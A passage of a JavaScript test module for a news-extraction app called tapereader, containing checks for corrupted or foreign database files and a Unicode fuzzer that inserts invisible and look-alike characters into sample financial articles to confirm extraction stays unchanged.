      if (schema !== reference || version !== expectedVersion) (out.lost++, out.failures.push({ i, delay, version, schemaDiffers: schema !== reference }));
      const ic = store.db.pragma('integrity_check', { simple: true });
      if (ic !== 'ok') (out.lost++, out.failures.push({ i, delay, integrity: ic }));
    } catch (e) {
      out.crashes++;
      out.failures.push({ i, delay, reopen: String(e) });
    } finally {
      store?.close();
    }
    out.worstMs = Math.max(out.worstMs, performance.now() - t0);
  }
  return out;
}

// ---------------------------------------------------------------------------------------------------------------
// S6: files that must be refused.

/**
 * Write every kind of not-a-usable-database file into dir, from `real` (the bytes of a real, checkpointed
 * tapereader database). Returns [{name, path}].
 */
export function badDatabaseFiles(dir, real, seed = 6) {
  const rng = prng(seed);
  const random = Buffer.from(Array.from({ length: 64 * 1024 }, () => rng.int(256)));
  const pageSize = real.readUInt16BE(16) === 1 ? 65536 : real.readUInt16BE(16);
  const cases = [
    ['random bytes', (p) => writeFileSync(p, random)],
    ['an SQLite header followed by random bytes', (p) => writeFileSync(p, Buffer.concat([real.subarray(0, 100), random.subarray(100, 8192)]))],
    ['random pages after a real first page', (p) => writeFileSync(p, Buffer.concat([real.subarray(0, pageSize), random.subarray(0, 4 * pageSize)]))],
  ];
  for (const cut of [10, 50, 99, 100, 1000, pageSize, pageSize + 17, 2 * pageSize, Math.floor(real.length / 2), real.length - pageSize, real.length - 1]) {
    cases.push([`a real database truncated to ${cut} of ${real.length} bytes`, (p) => writeFileSync(p, real.subarray(0, cut))]);
  }
  cases.push([
    'an SQLite database of another program',
    (p) => {
      const db = new Database(p);
      db.exec("CREATE TABLE notes (body TEXT); INSERT INTO notes VALUES ('my notes')");
      db.close();
    },
  ]);
  cases.push([
    'a database from a newer tapereader',
    (p) => {
      writeFileSync(p, real);
      const db = new Database(p);
      db.pragma('user_version = 99');
      db.close();
    },
  ]);
  return cases.map(([name, make], i) => {
    const path = join(dir, `bad-${i}.db`);
    make(path);
    return { name, path };
  });
}

// ---------------------------------------------------------------------------------------------------------------
// R6: invisible and look-alike characters must not change what is extracted.

/** Zero-width characters, joiners, soft hyphen, word joiner, BOM, bidi embeddings/overrides/isolates/marks. */
export const INVISIBLE = /[\u00ad\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff]/;
const INVISIBLES = ['\u200b', '\u200c', '\u200d', '\u200e', '\u200f', '\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2060', '\u2066', '\u2067', '\u2068', '\u2069', '\ufeff', '\u00ad'];
const SPACES = ['\u00a0', '\u202f', '\u2007', '\u2009', '\u3000'];

/** Every value field a user reads (not evidence spans, which must slice the original text as it is). */
export function valueStrings(r) {
  const out = [];
  for (const t of r.tickers) out.push(['ticker.symbol', t.symbol], ['ticker.name', t.name]);
  for (const i of r.indices) out.push(['index.id', i.id], ['index.name', i.name]);
  for (const l of r.levels) out.push(['level.index', l.index]);
  for (const m of r.moves) out.push(['move.subject', m.subject], ['move.symbol', m.symbol], ['move.period', m.period]);
  for (const m of r.money) out.push(['money.currency', m.currency], ['money.metric', m.metric], ['money.subject', m.subject]);
  for (const q of r.quotes) out.push(['quote.text', q.text], ['quote.speaker', q.speaker], ['quote.title', q.title], ['quote.organization', q.organization]);
  for (const t of r.tags) out.push(['tag', t.tag]);
  return out.filter((x) => x[1] !== null);
}

/** What was extracted, without the evidence texts and offsets (which legitimately move). */
export function extractedValues(r) {
  return JSON.stringify({
    tickers: r.tickers.map((t) => [t.symbol, t.name, t.kind, t.inTitle, t.prominence, t.mentions.map((m) => m.rule)]),
    indices: r.indices.map((i) => [i.id, i.mentions.map((m) => m.rule)]),
    levels: r.levels.map((l) => [l.index, l.value, l.kind, l.rule]),
    moves: r.moves.map((m) => [m.subject, m.symbol, m.percent, m.direction, m.period, m.realized, m.rule]),
    money: r.money.map((m) => [m.amount, m.currency, m.metric, m.subject, m.rule]),
    quotes: r.quotes.map((q) => [q.text, q.speaker, q.title, q.organization, q.rule]),
    tags: r.tags.map((t) => [t.tag, t.score, t.evidence.map((e) => e.term)]),
    breadth: r.breadth,
  });
}

/**
 * Disguise a clean ASCII text without changing its normalised form: invisible characters inserted anywhere,
 * spaces as NBSP / narrow NBSP / figure, thin or ideographic spaces, ASCII as fullwidth, ' as a curly
 * apostrophe, - as U+2212.
 */
export function disguise(rng, text, rate = 0.08) {
  let s = '';
  for (const ch of text) {
    if (rng.chance(rate)) s += rng.pick(INVISIBLES);
    const c = ch.charCodeAt(0);
    if (!rng.chance(rate)) s += ch;
    else if (ch === ' ') s += rng.pick(SPACES);
    else if (ch === "'") s += '\u2019';
    else if (ch === '-') s += rng.pick(['\u2212', '\uff0d']);
    else if (c > 0x20 && c < 0x7f && ch !== '"') s += String.fromCharCode(c + 0xfee0);
    else s += ch;
  }
  return s;
}

/**
 * R6 fuzz: disguised copies of clean articles must extract exactly what the clean text does, keep every span
 * slicing the stored text, and carry no invisible character in any value.
 */
export function unicodeFuzz({ analyze, validateRecord, count, seed = 6 }) {
  const rng = prng(seed);
  const bases = [...FUZZ_ARTICLES.filter((a) => /^[\x20-\x7e]*$/.test(a.text)), ...UNICODE_BASES].map((a) => ({ ...a, clean: null }));
  const out = { tried: 0, crashes: 0, lost: 0, worstMs: 0, failures: [] };
  const fail = (d) => out.failures.length < 20 && out.failures.push({ seed, ...d });
  const article = (text, title) => ({ source: { kind: 'file', uri: 'unicode.txt' }, title, url: null, publishedAt: null, text });
  for (const b of bases) b.clean = extractedValues(analyze(article(b.text, b.title)));
  for (let i = 0; i < count; i++) {
    const b = bases[i % bases.length];
    const text = disguise(rng, b.text, 0.02 + rng.next() * 0.2);
    out.tried++;
    try {
      const t0 = performance.now();
      const r = analyze(article(text, b.title));
      out.worstMs = Math.max(out.worstMs, performance.now() - t0);
      const v = validateRecord(r);
      if (!v.ok) (out.lost++, fail({ index: i, kind: 'invalid record', errors: v.errors.slice(0, 3), text }));
      const got = extractedValues(r);
      if (got !== b.clean) (out.lost++, fail({ index: i, kind: 'extraction changed', text, expected: b.clean, got }));
      for (const [field, value] of valueStrings(r)) if (INVISIBLE.test(value)) (out.lost++, fail({ index: i, kind: 'invisible character in a value', field, value }));
    } catch (e) {
      out.crashes++;
      fail({ index: i, kind: 'threw', text, error: String(e && e.stack ? e.stack : e) });
    }
  }
  return out;
}

const UNICODE_BASES = [
  { key: 'quote', title: 'Strategist on breadth', text: '"This is still a market carried by a handful of giants," said Maria Chen, chief market strategist at Harbor Point Advisors. The S&P 500 rose 0.8% to close at 6,912.40, and Nvidia\'s shares jumped 4.1%.' },
  { key: 'signed', title: 'ETF recap', text: 'SPY +1.65%, IWM -0.29%, QQQ +2.1%. The Dow Jones Industrial Average fell 212.37 points, or 0.5 percent, to 38,000.12.' },
  { key: 'tickers', title: 'Movers', text: 'Shares of AAPL fell 3% on Thursday. TSLA rose 2%. $MSFT slipped 1%. Revenue at Nvidia rose to $12.5 billion.' },
];
